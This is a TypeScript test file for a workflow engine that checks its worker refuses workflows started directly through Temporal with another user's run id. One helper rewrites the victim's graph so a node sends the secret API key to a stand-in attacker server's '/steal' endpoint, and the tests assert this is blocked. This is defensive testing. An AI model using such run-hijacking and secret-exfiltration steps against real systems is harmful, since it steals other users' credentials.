/**
 * The worker trusts nothing that arrives through Temporal (issue 10, property 3), tried as an attacker who can
 * reach Temporal: `runDag` started straight through a Temporal client with another user's run id.
 */
import { randomUUID } from "node:crypto";
import { WorkflowFailedError } from "@temporalio/client";
import { beforeAll, describe, expect, it } from "vitest";
import type { WorkflowSnapshot } from "../../core/snapshot.ts";
import { TEST_TASK_QUEUE } from "../../test/env.ts";
import { buildWorkflow, call, json, startUpstream, type Upstream, waitForRun } from "../../test/helpers.ts";
import { useApiHarness } from "../../test/harness.ts";

const SECRET = "alice-secret-value-7f3a91";

let victimServer: Upstream;
let attackerServer: Upstream;
let victim: { workflowId: string; runId: string; snapshot: WorkflowSnapshot; input: unknown };

/** Everything Weft recorded for the run: its row and its node executions. */
async function recorded(runId: string) {
  const [run] = await t
    .sql`SELECT status, output, error, started_at, finished_at FROM workflow_runs WHERE id = ${runId}`;
  const executions = await t.sql`SELECT id, node_id, status, attempt, input, output, error, finished_at
    FROM node_executions WHERE run_id = ${runId} ORDER BY id`;
  return { run, executions };
}

/**
 * The types and messages along a failure's cause chain (workflow failure → activity failure → what the activity
 * threw; a failed node is reported by runDag as NodeFailed with the node's message).
 */
function failureTypes(err: unknown): string {
  const out: string[] = [];
  for (
    let e = err as { type?: string; name?: string; message?: string; cause?: unknown } | undefined;
    e;
    e = e.cause as never
  ) {
    out.push(`${e.type ?? e.name}: ${e.message}`);
  }
  return out.join("\n");
}

/** Starts runDag through Temporal as an attacker would and waits for it to end; returns the failure, if any. */
async function attack(workflowId: string, snapshot: WorkflowSnapshot, input: unknown = victim.input) {
  const handle = await t.temporal.workflow.start("runDag", {
    taskQueue: TEST_TASK_QUEUE,
    workflowId,
    args: [{ runId: victim.runId, input, snapshot }],
  });
  return await handle.result().then(() => null, (err) => err);
}

/** The victim's graph with its one node sending the secret to the attacker's server instead. */
function exfiltratingSnapshot(): WorkflowSnapshot {
  const snapshot = structuredClone(victim.snapshot);
  snapshot.nodes[0].config = { url: `${attackerServer.url}/steal`, headers: { "x-stolen": "{{secrets.API_KEY}}" } };
  return snapshot;
}

const t = useApiHarness();
beforeAll(async () => {
  victimServer = await startUpstream((_req, _body, res) => json(res, 200, { ok: true }));
  attackerServer = await startUpstream((_req, _body, res) => json(res, 200, { ok: true }));
  expect(
    (await call(t.app, "POST", "/api/secrets", { token: t.alice.token, body: { name: "API_KEY", value: SECRET } }))
      .status,
  ).toBe(201);
  const { workflowId } = await buildWorkflow(t.app, t.alice.token, [
    { name: "call", config: { url: `${victimServer.url}/api`, headers: { authorization: "{{secrets.API_KEY}}" } } },
  ]);
  const started = await call(t.app, "POST", `/api/workflows/${workflowId}/execute`, {
    token: t.alice.token,
    body: { input: { order: 1 } },
  });
  expect(started.status).toBe(202);
  const run = await waitForRun(t.app, t.alice.token, workflowId, started.body.run_id);
  expect(run.status).toBe("succeeded");
  const [row] = await t.sql`SELECT snapshot, input FROM workflow_runs WHERE id = ${run.id}`;
  victim = { workflowId, runId: run.id, snapshot: row.snapshot as WorkflowSnapshot, input: row.input };
  expect(victimServer.requests.length).toBe(1);
  expect(victimServer.requests[0].headers.authorization).toBe(SECRET);
  return async () => {
    await victimServer.close();
    await attackerServer.close();
  };
});

describe("runDag started straight through Temporal", () => {
  it("with another user's run id under a workflow id Weft did not give it: no secret, nothing written", async () => {
    const before = await recorded(victim.runId);
    const failure = await attack(`attacker-${randomUUID()}`, exfiltratingSnapshot());
    expect(failure).toBeInstanceOf(WorkflowFailedError);
    expect(failureTypes(failure)).toMatch(/RunNotAuthorized|may not act for the run/);
    expect(attackerServer.requests).toEqual([]);
    expect(victimServer.requests.length).toBe(1);
    expect(await recorded(victim.runId)).toEqual(before);
  });

  it("again under the finished run's own workflow id, with a changed graph: refused, nothing changed", async () => {
    const before = await recorded(victim.runId);
    const failure = await attack(`weft-run-${victim.runId}`, exfiltratingSnapshot());
    expect(failure).toBeInstanceOf(WorkflowFailedError);
    expect(failureTypes(failure)).toMatch(/RunNotAuthorized|may not act for the run/);
    expect(attackerServer.requests).toEqual([]);
    expect(await recorded(victim.runId)).toEqual(before);
  });

  it("a second start of the finished run with its own graph reaches no secret and overwrites nothing", async () => {
    const before = await recorded(victim.runId);
    const failure = await attack(`weft-run-${victim.runId}`, victim.snapshot);
    expect(failure).toBeInstanceOf(WorkflowFailedError);
    expect(victimServer.requests.length).toBe(1);
    expect(attackerServer.requests).toEqual([]);
    expect(await recorded(victim.runId)).toEqual(before);
  });

  it("a changed run input is refused before any node runs", async () => {
    const before = await recorded(victim.runId);
    const failure = await attack(`weft-run-${victim.runId}`, victim.snapshot, { order: 2, to: attackerServer.url });
    expect(failure).toBeInstanceOf(WorkflowFailedError);
    expect(failureTypes(failure)).toMatch(/RunNotAuthorized|may not act for the run/);
    expect(victimServer.requests.length).toBe(1);
    expect(await recorded(victim.runId)).toEqual(before);
  });

  it("the victim's own runs still work afterwards", async () => {
    const again = await call(t.app, "POST", `/api/workflows/${victim.workflowId}/execute`, {
      token: t.alice.token,
      body: { input: { order: 3 } },
    });
    expect((await waitForRun(t.app, t.alice.token, victim.workflowId, again.body.run_id)).status).toBe("succeeded");
    expect(victimServer.requests.length).toBe(2);
  });

  describe("when the run's nodes ran as local activities (their first attempt writes before it reads)", () => {
    // A server of their own: the other tests count the victim server's requests.
    let localServer: Upstream;
    beforeAll(async () => {
      localServer = await startUpstream((_req, _body, res) => json(res, 200, { ok: true }));
      return () => localServer.close();
    });

    /** A finished run of a local http_request (sending the secret) followed by a local transform. */
    async function localVictim() {
      const { workflowId } = await buildWorkflow(t.app, t.alice.token, [
        {
          name: "call",
          config: {
            url: `${localServer.url}/local`,
            headers: { authorization: "{{secrets.API_KEY}}" },
            timeout_ms: 5000,
          },
        },
        { name: "shape", type: "transform", config: { expression: "nodes.call.output.status" } },
      ], [["call", "shape"]]);
      const started = await call(t.app, "POST", `/api/workflows/${workflowId}/execute`, {
        token: t.alice.token,
        body: { input: { order: 9 } },
      });
      const run = await waitForRun(t.app, t.alice.token, workflowId, started.body.run_id);
      expect(run.status).toBe("succeeded");
      expect(run.node_executions.map((e: { execution: string }) => e.execution)).toEqual(["local", "local"]);
      const [row] = await t.sql`SELECT snapshot, input FROM workflow_runs WHERE id = ${run.id}`;
      return { runId: run.id as string, snapshot: row.snapshot as WorkflowSnapshot, input: row.input };
    }
    const localHits = () => localServer.requests.length;

    it("a second start of the finished run answers from its rows: no request, nothing overwritten", async () => {
      const local = await localVictim();
      expect(localHits()).toBe(1);
      const before = await recorded(local.runId);
      const handle = await t.temporal.workflow.start("runDag", {
        taskQueue: TEST_TASK_QUEUE,
        workflowId: `weft-run-${local.runId}`,
        args: [{ runId: local.runId, input: local.input, snapshot: local.snapshot }],
      });
      await handle.result().catch(() => {});
      expect(localHits()).toBe(1);
      expect(attackerServer.requests).toEqual([]);
      expect(await recorded(local.runId)).toEqual(before);
    });

    it("a node of the finished run with no row of its own is refused before its request", async () => {
      const local = await localVictim();
      const hits = localHits();
      await t.sql`DELETE FROM node_executions WHERE run_id = ${local.runId}`;
      const before = await recorded(local.runId);
      const handle = await t.temporal.workflow.start("runDag", {
        taskQueue: TEST_TASK_QUEUE,
        workflowId: `weft-run-${local.runId}`,
        args: [{ runId: local.runId, input: local.input, snapshot: local.snapshot }],
      });
      const failure = await handle.result().then(() => null, (err) => err);
      expect(failure).toBeInstanceOf(WorkflowFailedError);
      expect(failureTypes(failure)).toMatch(/RunNotAuthorized|may not act for the run/);
      expect(localHits()).toBe(hits);
      expect(await recorded(local.runId)).toEqual(before);
    });
  });
});

describe("mapBatch started straight through Temporal", () => {
  /** A map batch for the victim's run, under `workflowId`, as an attacker would start one. */
  async function attackBatch(workflowId: string) {
    const node = victim.snapshot.nodes[0];
    const handle = await t.temporal.workflow.start("mapBatch", {
      taskQueue: TEST_TASK_QUEUE,
      workflowId,
      args: [{
        run: { runId: victim.runId },
        node: { ...node, config: { ...node.config, workflow_id: victim.workflowId } },
        context: { input: victim.input, nodes: {}, run: { id: victim.runId } },
        indices: [0],
        concurrency: 1,
      }],
    });
    return await handle.result();
  }
  const childRuns = async () =>
    (await t.sql`SELECT count(*)::int AS n FROM workflow_runs WHERE parent_run_id = ${victim.runId}`)[0].n;

  it("under a workflow id that is not one of the run's batches, or with a node the run does not have: refused", async () => {
    const before = await recorded(victim.runId);
    // Each refusal is the batch's one item failing: no child run is created, nothing is written.
    expect(await attackBatch(`attacker-${randomUUID()}`)).toEqual({ failed: 1 });
    // Under the run's batch id form, the changed node is not the run's node as recorded.
    expect(await attackBatch(`weft-run-${victim.runId}-map-${victim.snapshot.nodes[0].id}-0`)).toEqual({ failed: 1 });
    expect(await childRuns()).toBe(0);
    expect(attackerServer.requests).toEqual([]);
    expect(victimServer.requests.length).toBe(2);
    expect(await recorded(victim.runId)).toEqual(before);
  });
});
